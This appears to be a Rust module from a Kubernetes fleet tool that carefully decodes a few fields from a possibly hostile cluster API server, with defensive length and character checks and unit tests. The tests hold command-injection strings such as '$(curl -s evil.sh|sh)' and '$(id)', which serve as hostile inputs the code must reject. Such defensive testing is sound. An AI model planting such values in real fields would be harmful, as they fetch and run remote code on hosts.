//! What is on a cluster that is imported. Its API server may be hostile, so only the few fields that matter are decoded: whatever else a
//! response has is skipped, and takes no memory.

use base64::{Engine, engine::general_purpose::STANDARD};
use go_formats::yaml::{self, Quota};
use helmops_api::NamespacedName;
use helmops_model::validation::names;
use serde::{Deserialize, de::DeserializeOwned};
use serde_json::Value;
use thiserror::Error;

use super::kubeconfig::MAX_BYTES;
use crate::{access::Joined, agent_objects::NAME};

/// Longest UID, in bytes. Those of Kubernetes have 36.
const MAX_UID: usize = 64;
/// Longest image of an agent, in bytes: a repository of 255, a tag of 128 and a digest. It is remembered on the Cluster.
const MAX_IMAGE: usize = 512;

/// A response is not the object that was requested.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Error)]
#[error("the response is not the object that was requested")]
pub struct NotThatObject;

/// What is on the cluster.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Target {
    /// The UID of its namespace `kube-system`.
    pub identity: String,
    /// This agent, if it is installed.
    pub agent: Option<InstalledAgent>,
    /// Fleet's agent as kubectl names it, if it has replicas.
    pub fleets_agent: Option<&'static str>,
    /// The Secret `fleet-agent`, if there is one.
    pub secret: Option<JoinedSecret>,
    /// The `ClusterRoleBinding` of the agent, if there is one.
    pub binding: Option<Binding>,
}

/// The Deployment of this agent.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct InstalledAgent {
    /// Its image.
    pub image: String,
    /// Its arguments.
    pub args: Vec<String>,
}

/// The Secret with the access of an agent.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct JoinedSecret {
    /// Which Cluster the agent is of; `None` if a key is missing.
    pub joined: Option<Joined>,
    /// The address of its management cluster; empty if it cannot be read.
    pub server: String,
    /// The CAs of its management cluster, PEM; empty if it has none.
    pub authorities: String,
}

/// The `ClusterRoleBinding` of the agent.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Binding {
    /// Whom it was imported for; `None` if it was not imported.
    pub claim: Option<String>,
    /// The namespaces of its subjects.
    pub namespaces: Vec<String>,
    /// Its version.
    pub resource_version: String,
}

#[derive(Deserialize)]
struct Metadata {
    #[serde(default)]
    uid: String,
    #[serde(default, rename = "resourceVersion")]
    resource_version: String,
    #[serde(default)]
    annotations: Option<Annotations>,
}

#[derive(Deserialize)]
struct Annotations {
    #[serde(rename = "helmops.fleet.cattle.io/imported-by")]
    imported_by: Option<String>,
}

#[derive(Deserialize)]
struct OnlyMetadata {
    metadata: Metadata,
}

#[derive(Deserialize)]
struct Workload {
    spec: WorkloadSpec,
}

#[derive(Deserialize)]
struct WorkloadSpec {
    replicas: Option<i64>,
    template: Template,
}

#[derive(Deserialize)]
struct Template {
    spec: PodSpec,
}

#[derive(Deserialize)]
struct PodSpec {
    containers: Vec<Container>,
}

#[derive(Deserialize)]
struct Container {
    #[serde(default)]
    image: String,
    #[serde(default)]
    args: Vec<String>,
}

#[derive(Deserialize)]
struct SecretBody {
    #[serde(default)]
    data: Option<SecretData>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct SecretData {
    kubeconfig: Option<String>,
    deployment_namespace: Option<String>,
    cluster_namespace: Option<String>,
    cluster_name: Option<String>,
}

#[derive(Deserialize)]
struct BindingBody {
    metadata: Metadata,
    #[serde(default)]
    subjects: Option<Vec<Subject>>,
}

#[derive(Deserialize)]
struct Subject {
    #[serde(default)]
    name: String,
    #[serde(default)]
    namespace: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct PriorityClassBody {
    metadata: Metadata,
    value: i64,
    preemption_policy: Option<String>,
}

#[derive(Deserialize)]
struct ManagedBody {
    metadata: ManagedMetadata,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct ManagedMetadata {
    #[serde(default)]
    resource_version: String,
    #[serde(default)]
    managed_fields: Option<Vec<ManagedFields>>,
}

#[derive(Deserialize)]
struct ManagedFields {
    #[serde(default)]
    manager: String,
    #[serde(default)]
    operation: String,
    #[serde(default)]
    subresource: String,
}

#[derive(Deserialize)]
struct StatusBody {
    kind: String,
    #[serde(default)]
    message: String,
}

fn decode<T: DeserializeOwned>(body: &[u8]) -> Result<T, NotThatObject> {
    serde_json::from_slice(body).map_err(|_| NotThatObject)
}

/// The UID of a namespace. It becomes a part of commands in messages, so it has no characters that mean something to a shell.
///
/// # Errors
/// If it is no object with a UID.
pub fn uid(body: &[u8]) -> Result<String, NotThatObject> {
    let OnlyMetadata { metadata } = decode(body)?;
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
    let is_valid =
        !metadata.uid.is_empty() && metadata.uid.len() <= MAX_UID && metadata.uid.bytes().all(is_plain);
    is_valid.then_some(metadata.uid).ok_or(NotThatObject)
}

/// Whether a Deployment or StatefulSet has replicas.
///
/// # Errors
/// If it is none.
pub fn has_replicas(body: &[u8]) -> Result<bool, NotThatObject> {
    let Workload { spec } = decode(body)?;
    Ok(spec.replicas.unwrap_or(1) > 0)
}

/// The agent of a Deployment.
///
/// # Errors
/// If it is none.
pub fn installed_agent(body: &[u8]) -> Result<InstalledAgent, NotThatObject> {
    let Workload { spec } = decode(body)?;
    let container = spec.template.spec.containers.into_iter().next();
    let container = container.filter(|container| container.image.len() <= MAX_IMAGE);
    let container = container.ok_or(NotThatObject)?;
    Ok(InstalledAgent {
        image: container.image,
        args: container.args,
    })
}

/// The Secret of an agent.
///
/// # Errors
/// If it is none.
pub fn joined_secret(body: &[u8]) -> Result<JoinedSecret, NotThatObject> {
    let SecretBody { data } = decode(body)?;
    let Some(data) = data else {
        return Ok(JoinedSecret::default());
    };
    let text = |value: Option<String>| String::from_utf8(STANDARD.decode(value?).ok()?).ok();
    let joined = || {
        Some(Joined {
            cluster: NamespacedName::new(text(data.cluster_namespace)?, text(data.cluster_name)?),
            deployment_namespace: text(data.deployment_namespace)?,
        })
    };
    let (server, authorities) = text(data.kubeconfig)
        .and_then(|text| management_of(&text))
        .unwrap_or_default();
    Ok(JoinedSecret {
        joined: joined(),
        server,
        authorities,
    })
}

/// The address and the CAs of the first cluster of the kubeconfig of an agent.
fn management_of(kubeconfig: &str) -> Option<(String, String)> {
    if kubeconfig.len() > MAX_BYTES {
        return None;
    }
    let config = yaml::read_exact(kubeconfig, &mut Quota::new(1000, MAX_BYTES)).ok()?;
    let cluster = config.pointer("/clusters/0/cluster")?;
    let text = |key: &str| cluster.get(key).and_then(Value::as_str).unwrap_or_default();
    let authorities = STANDARD
        .decode(text("certificate-authority-data"))
        .unwrap_or_default();
    let authorities = String::from_utf8(authorities).unwrap_or_default();
    Some((text("server").to_owned(), authorities))
}

/// The `ClusterRoleBinding` of an agent. Its namespaces become a part of commands in messages, so other texts than names are refused.
///
/// # Errors
/// If it is none.
pub fn binding(body: &[u8]) -> Result<Binding, NotThatObject> {
    let BindingBody { metadata, subjects } = decode(body)?;
    let subjects = subjects
        .into_iter()
        .flatten()
        .filter(|subject| subject.name == NAME);
    let namespaces: Vec<_> = subjects.filter_map(|subject| subject.namespace).collect();
    if namespaces
        .iter()
        .any(|namespace| names::namespace(namespace).is_err())
    {
        return Err(NotThatObject);
    }
    Ok(Binding {
        claim: metadata
            .annotations
            .and_then(|annotations| annotations.imported_by),
        namespaces,
        resource_version: metadata.resource_version,
    })
}

/// Who has applied an object.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Managed {
    /// Its version.
    pub resource_version: String,
    /// The position in `metadata.managedFields` of the field manager that is looked for; `None` if there is nothing to take over.
    pub position: Option<usize>,
}

/// What `other` has applied (server-side apply), if `own` has applied nothing yet.
///
/// # Errors
/// If it is no object.
pub fn managed(body: &[u8], own: &str, other: &str) -> Result<Managed, NotThatObject> {
    let ManagedBody { metadata } = decode(body)?;
    let fields = metadata.managed_fields.unwrap_or_default();
    let applied = |manager: &str| {
        fields
            .iter()
            .position(|one| one.operation == "Apply" && one.manager == manager && one.subresource.is_empty())
    };
    Ok(Managed {
        resource_version: metadata.resource_version,
        position: applied(other).filter(|_| applied(own).is_none()),
    })
}

/// A `PriorityClass` of the cluster.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ObservedPriorityClass {
    /// Whom it was imported for; `None` if it is from elsewhere.
    pub claim: Option<String>,
    /// Its value, which cannot be changed.
    pub value: i64,
    /// Whether its pods preempt others, which cannot be changed either.
    pub preemption_policy: Option<String>,
}

/// A `PriorityClass`.
///
/// # Errors
/// If it is none.
pub fn priority_class(body: &[u8]) -> Result<ObservedPriorityClass, NotThatObject> {
    let PriorityClassBody {
        metadata,
        value,
        preemption_policy,
    } = decode(body)?;
    Ok(ObservedPriorityClass {
        claim: metadata
            .annotations
            .and_then(|annotations| annotations.imported_by),
        value,
        preemption_policy,
    })
}

/// The message of an error response of an API server; `None` for a response of anything else, of which nothing is shown.
pub fn message(body: &[u8]) -> Option<String> {
    let StatusBody { kind, message } = decode(body).ok()?;
    (kind == "Status" && !message.is_empty()).then_some(message)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn bytes(value: &Value) -> Vec<u8> {
        value.to_string().into_bytes()
    }

    #[test]
    fn the_fields_that_matter_are_read() {
        assert_eq!(
            uid(&bytes(&json!({ "metadata": { "uid": "u-1", "labels": {} } }))),
            Ok("u-1".to_owned())
        );
        let deployment = json!({ "metadata": {}, "spec": { "replicas": 0, "template": { "spec": {
            "containers": [{ "name": "agent", "image": "a:1", "args": ["--workers=5"], "ports": [{}] }] } } } });
        assert_eq!(has_replicas(&bytes(&deployment)), Ok(false));
        let agent = installed_agent(&bytes(&deployment)).unwrap();
        assert_eq!(
            (&*agent.image, &agent.args[..]),
            ("a:1", &["--workers=5".to_owned()][..])
        );
        let encoded = |text: &str| STANDARD.encode(text);
        let kubeconfig = json!({ "clusters": [{ "cluster": {
            "server": "https://10.0.0.1", "certificate-authority-data": encoded("CA") } }] });
        let secret = joined_secret(&bytes(&json!({ "data": {
            "clusterNamespace": encoded("fleet-default"), "clusterName": encoded("edge"),
            "deploymentNamespace": encoded("cluster-a"), "kubeconfig": encoded(&kubeconfig.to_string()),
        } })));
        let secret = secret.unwrap();
        assert_eq!(
            secret.joined.unwrap().cluster,
            NamespacedName::new("fleet-default", "edge")
        );
        assert_eq!(
            (&*secret.server, &*secret.authorities),
            ("https://10.0.0.1", "CA")
        );
        let binding = binding(&bytes(&json!({
            "metadata": { "resourceVersion": "7", "annotations": { "helmops.fleet.cattle.io/imported-by": "m/a/b", "a": "b" } },
            "subjects": [{ "kind": "ServiceAccount", "name": "helmops-agent", "namespace": "x" }, { "name": "admin" }],
        })));
        let expected = Binding {
            claim: Some("m/a/b".to_owned()),
            namespaces: vec!["x".to_owned()],
            resource_version: "7".to_owned(),
        };
        assert_eq!(binding, Ok(expected));
        let class = priority_class(&bytes(
            &json!({ "metadata": {}, "value": 1000, "preemptionPolicy": "Never" }),
        ))
        .unwrap();
        assert_eq!(
            (class.value, class.preemption_policy.as_deref()),
            (1000, Some("Never"))
        );
        assert_eq!(
            message(&bytes(&json!({ "kind": "Status", "message": "no" }))).as_deref(),
            Some("no")
        );
        assert_eq!(
            message(&bytes(&json!({ "kind": "Secret", "message": "geheim" }))),
            None
        );
    }

    #[test]
    fn the_fields_of_another_manager_are_taken_once() {
        let position = |entries: &[(&str, &str, &str)]| {
            let entries: Vec<_> = entries
                .iter()
                .map(|(manager, operation, subresource)| {
                    json!({ "manager": manager, "operation": operation, "subresource": subresource, "fieldsV1": {} })
                })
                .collect();
            let object = json!({ "metadata": { "resourceVersion": "7", "managedFields": entries } });
            managed(&bytes(&object), "controller", "join").unwrap().position
        };
        assert_eq!(position(&[]), None);
        let joined = ("join", "Apply", "");
        assert_eq!(position(&[("kubelet", "Update", "status"), joined]), Some(1));
        assert_eq!(position(&[joined, ("controller", "Apply", "")]), None);
        assert_eq!(position(&[joined, ("controller", "Update", "")]), Some(0));
        assert_eq!(
            position(&[("join", "Update", ""), ("join", "Apply", "scale")]),
            None
        );
    }

    #[test]
    fn a_hostile_response_is_refused_or_skipped() {
        let deep = |levels: usize| format!("{}{}", "[".repeat(levels), "]".repeat(levels));
        let skipped = format!(
            r#"{{"metadata":{{"uid":"u","managedFields":{}}},"status":{}}}"#,
            deep(100_000),
            deep(20_000)
        );
        assert_eq!(
            uid(skipped.as_bytes()),
            Ok("u".to_owned()),
            "what is skipped is not recursive"
        );
        for body in [
            "",
            "null",
            "<html>",
            r#"{"metadata":{}}"#,
            r#"{"metadata":{"uid":""}}"#,
            r#"{"metadata":{"uid":1}}"#,
            &format!(r#"{{"metadata":{{"uid":"{}"}}}}"#, "u".repeat(65)),
            r#"{"metadata":{"uid":"$(curl -s evil.sh|sh)"}}"#,
            r#"{"metadata":{"uid":"a b"}}"#,
            &format!(r#"{{"metadata":{}}}"#, deep(100_000)),
            &deep(100_000),
        ] {
            assert_eq!(uid(body.as_bytes()), Err(NotThatObject));
        }
        for body in ["{}", r#"{"spec":{"template":{"spec":{"containers":[]}}}}"#] {
            assert_eq!(installed_agent(body.as_bytes()), Err(NotThatObject), "{body}");
        }
        for namespace in ["x; curl evil|sh #", "", "$(id)", &"n".repeat(200 << 10)] {
            let subjects = json!([{ "name": NAME, "namespace": namespace }]);
            let hostile = binding(&bytes(&json!({ "metadata": {}, "subjects": subjects })));
            assert_eq!(hostile, Err(NotThatObject), "{namespace:.20}");
        }
        let long = json!({ "spec": { "template": { "spec": { "containers": [{ "image": "i".repeat(MAX_IMAGE + 1) }] } } } });
        assert_eq!(installed_agent(&bytes(&long)), Err(NotThatObject));
        let secret = joined_secret(br#"{"data":{"kubeconfig":"%","clusterName":"AA"}}"#).unwrap();
        assert_eq!(secret, JoinedSecret::default());
    }
}
